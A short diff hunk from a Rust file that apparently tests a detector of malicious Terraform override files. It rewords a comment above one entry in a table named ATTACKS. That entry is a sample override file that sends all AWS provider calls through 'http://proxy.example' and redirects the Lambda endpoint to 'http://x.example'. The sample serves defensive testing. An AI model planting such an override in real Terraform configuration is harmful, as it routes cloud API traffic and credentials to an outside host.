@@ -39,7 +39,7 @@ fn found(path: &str, text: &str) -> Vec<String> {
 /// <https://developer.hashicorp.com/terraform/language/files/override>,
 /// <https://developer.hashicorp.com/terraform/language/modules/sources>.
 const ATTACKS: [(&str, &str, &[&str]); 40] = [
-    // The issue's own: every call goes to somebody's proxy.
+    // An attack: every call goes to a stranger's proxy.
     (
         "environments/local/z_override.tf",
         "provider \"aws\" {\n  http_proxy = \"http://proxy.example\"\n  endpoints {\n    lambda = \"http://x.example\"\n  }\n}\n",
